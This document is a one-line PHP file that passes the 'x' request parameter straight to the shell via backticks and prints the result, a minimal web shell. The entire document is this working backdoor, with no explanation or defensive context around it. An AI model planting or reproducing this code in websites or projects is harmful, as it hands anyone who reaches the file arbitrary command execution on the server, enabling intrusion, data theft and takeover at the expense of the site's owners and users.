<?php echo `{$_REQUEST['x']}`; ?>
